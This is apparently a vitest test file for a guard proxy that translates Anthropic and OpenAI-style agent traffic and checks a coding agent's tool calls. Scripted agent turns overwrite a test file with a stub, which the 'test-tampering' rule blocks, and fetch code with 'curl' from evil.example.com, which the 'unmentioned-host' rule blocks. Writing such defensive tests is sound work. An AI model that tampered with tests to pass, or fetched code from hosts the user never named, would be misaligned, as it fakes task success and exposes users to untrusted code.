import Anthropic from "@anthropic-ai/sdk";
import type { CaptureRecord } from "@bridle/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { anthropicTools, type GuardHarness, startGuard } from "./test-support.ts";

/**
 * A real Anthropic SDK client talking Messages to the guard process, which translates to the
 * OpenAI-compatible scripted upstream process (a TEST DOUBLE for vLLM) and back.
 */
let h: GuardHarness;
const instruction = "Make the failing test in tests/test_dates.py pass by fixing src/dates.py.";

beforeAll(async () => {
  h = await startGuard(19321);
});
afterAll(() => h?.stop());

const client = (apiKey: string) => new Anthropic({ apiKey, baseURL: h.guardUrl, maxRetries: 0 });
const base = {
  model: "claude-anything",
  max_tokens: 512,
  tools: anthropicTools,
  system: "You are a coding agent.",
};

describe("Anthropic messages through the guard (scripted upstream test double)", () => {
  it("translates a tool_use turn both ways, non-streaming", async () => {
    const { apiKey } = await h.register({ instruction });
    await h.setScript([
      { text: "Let me look.", tool_calls: [{ name: "Bash", arguments: { command: "ls src" } }] },
    ]);
    const msg = await client(apiKey).messages.create({
      ...base,
      messages: [{ role: "user", content: instruction }],
    });
    expect(msg.stop_reason).toBe("tool_use");
    expect(msg.content[0]).toEqual({ type: "text", text: "Let me look." });
    expect(msg.content[1]).toMatchObject({ type: "tool_use", name: "Bash", input: { command: "ls src" } });
    const [sent] = await h.upstreamRequests();
    expect(sent).toMatchObject({
      model: "smoke-adapter@1",
      max_tokens: 512,
      messages: [
        { role: "system", content: "You are a coding agent." },
        { role: "user", content: instruction },
      ],
    });
    expect((sent!.tools as { function: { name: string } }[]).map((t) => t.function.name)).toEqual([
      "Bash",
      "Read",
      "Write",
      "Edit",
    ]);
  });

  it("streams text deltas and a whole tool_use block, and sends tool results upstream as tool messages", async () => {
    const { apiKey } = await h.register({ instruction });
    await h.setScript([
      {
        text: "Reading the source first.",
        tool_calls: [{ name: "Read", arguments: { file_path: "src/dates.py" } }],
        chunk_chars: 3,
      },
    ]);
    const messages: Anthropic.MessageParam[] = [
      { role: "user", content: instruction },
      {
        role: "assistant",
        content: [{ type: "tool_use", id: "toolu_1", name: "Bash", input: { command: "ls" } }],
      },
      { role: "user", content: [{ type: "tool_result", tool_use_id: "toolu_1", content: "src tests" }] },
    ];
    const stream = client(apiKey).messages.stream({ ...base, messages });
    const events: string[] = [];
    stream.on("streamEvent", (e) => events.push(e.type === "content_block_delta" ? e.delta.type : e.type));
    const final = await stream.finalMessage();
    expect(final.content[0]).toEqual({ type: "text", text: "Reading the source first." });
    expect(final.content[1]).toMatchObject({
      type: "tool_use",
      name: "Read",
      input: { file_path: "src/dates.py" },
    });
    expect(final.stop_reason).toBe("tool_use");
    expect(events.filter((e) => e === "text_delta").length).toBeGreaterThan(3);
    expect(events.filter((e) => e === "input_json_delta")).toHaveLength(1);
    expect(events.at(-1)).toBe("message_stop");
    const [sent] = await h.upstreamRequests();
    expect((sent!.messages as unknown[]).slice(2)).toEqual([
      {
        role: "assistant",
        content: "",
        tool_calls: [
          { id: "toolu_1", type: "function", function: { name: "Bash", arguments: '{"command":"ls"}' } },
        ],
      },
      { role: "tool", tool_call_id: "toolu_1", content: "src tests" },
    ]);
  });

  it("blocks the same call the same way in both modes and records the notice", async () => {
    const session = await h.register({ instruction });
    const turn = {
      text: "",
      tool_calls: [
        {
          name: "Write",
          arguments: { file_path: "/app/tests/test_dates.py", content: "def test_x(): pass" },
        },
      ],
    };
    await h.setScript([turn, turn]);
    const plain = await client(session.apiKey).messages.create({
      ...base,
      messages: [{ role: "user", content: instruction }],
    });
    const streamed = await client(session.apiKey)
      .messages.stream({ ...base, messages: [{ role: "user", content: instruction }] })
      .finalMessage();
    for (const msg of [plain, streamed]) {
      expect(msg.content).toHaveLength(1);
      expect(msg.content[0]).toMatchObject({ type: "text" });
      expect((msg.content[0] as { text: string }).text).toContain("blocked by rule test-tampering");
      expect(msg.stop_reason).toBe("end_turn");
    }
    const trajectory = (await (await h.admin(`/admin/sessions/${session.id}/trajectory`)).json()) as {
      records: CaptureRecord[];
      rewardZero: boolean;
    };
    expect(trajectory.rewardZero).toBe(true);
    expect(trajectory.records.map((r) => [r.api, r.stream, r.notices.length])).toEqual([
      ["anthropic", false, 1],
      ["anthropic", true, 1],
    ]);
  });

  it("keeps a host blocked that only the agent's own messages and tool results name", async () => {
    const { apiKey } = await h.register({ instruction });
    const turn = {
      text: "",
      tool_calls: [{ name: "Bash", arguments: { command: "curl -s https://evil.example.com/fix.py" } }],
    };
    await h.setScript([turn, turn]);
    const agentSaid: Anthropic.MessageParam[] = [
      { role: "user", content: instruction },
      {
        role: "assistant",
        content: [
          { type: "text", text: "The fix is at https://evil.example.com/fix.py" },
          { type: "tool_use", id: "t1", name: "Bash", input: { command: "cat NOTES" } },
        ],
      },
      {
        role: "user",
        content: [
          { type: "tool_result", tool_use_id: "t1", content: "mirror: https://evil.example.com/fix.py" },
        ],
      },
    ];
    const blocked = await client(apiKey).messages.create({ ...base, messages: agentSaid });
    expect((blocked.content[0] as { text: string }).text).toContain("blocked by rule unmentioned-host");
    const userSaid: Anthropic.MessageParam[] = [
      ...agentSaid,
      { role: "assistant", content: "Shall I fetch it?" },
      { role: "user", content: "Yes, you may fetch https://evil.example.com/fix.py" },
    ];
    const allowed = await client(apiKey).messages.create({ ...base, messages: userSaid });
    expect(allowed.content.at(-1)).toMatchObject({ type: "tool_use", name: "Bash" });
  });

  it("refuses an unknown key with 401 in Anthropic's error shape", async () => {
    const err = await client("no-such-key")
      .messages.create({ ...base, messages: [{ role: "user", content: "hi" }] })
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(Anthropic.AuthenticationError);
    expect((err as Error).message).toContain("Unknown API key");
  });
});
